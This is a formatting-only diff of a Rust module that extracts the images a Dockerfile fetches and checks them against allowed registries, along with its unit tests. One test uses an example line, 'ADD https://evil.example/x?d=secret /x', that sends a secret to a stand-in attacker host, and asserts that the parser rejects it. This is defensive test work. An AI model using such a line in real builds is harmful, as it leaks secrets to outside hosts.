@@ -51,8 +51,13 @@ impl RegistriesGrant {
                 ))
             }
         };
-        let mut registries =
-            configure_names(file, &format!("{field}.registries"), &perms.registries, check, errors);
+        let mut registries = configure_names(
+            file,
+            &format!("{field}.registries"),
+            &perms.registries,
+            check,
+            errors,
+        );
         let engine = perms.engine.as_ref().is_some_and(|g| g.value);
         if let (Some(first), false) = (perms.registries.first(), engine) {
             errors.push(file.error(
@@ -93,9 +98,7 @@ fn normalize(registry: &str) -> String {
 /// reference is on Docker Hub.
 pub fn registry_of(reference: &str) -> String {
     match reference.split_once('/') {
-        Some((first, _)) if first.contains(['.', ':']) || first == "localhost" => {
-            normalize(first)
-        }
+        Some((first, _)) if first.contains(['.', ':']) || first == "localhost" => normalize(first),
         _ => DOCKER_HUB.into(),
     }
 }
@@ -125,7 +128,9 @@ pub fn dockerfile_fetches(
     let mut out = DockerfileFetches::default();
     for (line_no, line) in instructions(text, escape) {
         let mut words = line.split_whitespace();
-        let Some(keyword) = words.next() else { continue };
+        let Some(keyword) = words.next() else {
+            continue;
+        };
         let rest: Vec<&str> = words.collect();
         let at = |what: String| format!("Dockerfile line {line_no}: {what}");
         match keyword.to_ascii_uppercase().as_str() {
@@ -172,8 +177,8 @@ pub fn dockerfile_fetches(
                             "`--from={from}` holds a variable; name the stage or image as text"
                         )));
                     }
-                    let is_stage =
-                        from.parse::<usize>().is_ok() || stages.contains(&from.to_ascii_lowercase());
+                    let is_stage = from.parse::<usize>().is_ok()
+                        || stages.contains(&from.to_ascii_lowercase());
                     if !is_stage {
                         out.images.push(from.to_string());
                     }
@@ -301,8 +306,10 @@ mod tests {
     use super::*;
 
     fn images(text: &str, args: &[(&str, &str)]) -> Result<Vec<String>, String> {
-        let args: Vec<(String, String)> =
-            args.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect();
+        let args: Vec<(String, String)> = args
+            .iter()
+            .map(|(k, v)| (k.to_string(), v.to_string()))
+            .collect();
         dockerfile_fetches(text, &args).map(|f| f.images)
     }
 
@@ -312,14 +319,21 @@ mod tests {
         assert_eq!(registry_of("library/alpine:3"), "docker.io");
         assert_eq!(registry_of("127.0.0.1:5000/a/b:1"), "127.0.0.1:5000");
         assert_eq!(registry_of("localhost/a"), "localhost");
-        assert_eq!(registry_of("Team.AzureCR.io/app@sha256:00"), "team.azurecr.io");
+        assert_eq!(
+            registry_of("Team.AzureCR.io/app@sha256:00"),
+            "team.azurecr.io"
+        );
         assert_eq!(registry_of("index.docker.io/library/alpine"), "docker.io");
     }
 
     #[test]
     fn grants_match_exactly_or_by_subdomain() {
         let g = RegistriesGrant {
-            registries: vec!["127.0.0.1:5000".into(), "*.azurecr.io".into(), "docker.io".into()],
+            registries: vec![
+                "127.0.0.1:5000".into(),
+                "*.azurecr.io".into(),
+                "docker.io".into(),
+            ],
         };
         assert!(g.allows("127.0.0.1:5000"));
         assert!(!g.allows("127.0.0.1:5001"));
@@ -346,13 +360,26 @@ mod tests {
     #[test]
     fn what_cannot_be_known_before_the_build_is_refused() {
         let unknown = images("FROM $REG/app\n", &[]).unwrap_err();
-        assert!(unknown.contains("line 1") && unknown.contains("`REG` has no value"), "{unknown}");
+        assert!(
+            unknown.contains("line 1") && unknown.contains("`REG` has no value"),
+            "{unknown}"
+        );
         // An ARG after FROM is not seen by FROM.
         assert!(images("FROM alpine\nARG X=a\nFROM $X\n", &[]).is_err());
-        let add = images("FROM scratch\nADD https://evil.example/x?d=secret /x\n", &[]).unwrap_err();
-        assert!(add.contains("line 2") && add.contains("ADD https://evil.example"), "{add}");
+        let add = images(
+            "FROM scratch\nADD https://evil.example/x?d=secret /x\n",
+            &[],
+        )
+        .unwrap_err();
+        assert!(
+            add.contains("line 2") && add.contains("ADD https://evil.example"),
+            "{add}"
+        );
         assert!(images("FROM scratch\nCOPY --from=$X /a /a\n", &[]).is_err());
-        assert_eq!(images("FROM ${X:-alpine:3}\n", &[]).unwrap(), vec!["alpine:3".to_string()]);
+        assert_eq!(
+            images("FROM ${X:-alpine:3}\n", &[]).unwrap(),
+            vec!["alpine:3".to_string()]
+        );
         assert_eq!(
             images("# escape=`\nFROM `\n  alpine\n", &[]).unwrap(),
             vec!["alpine".to_string()]
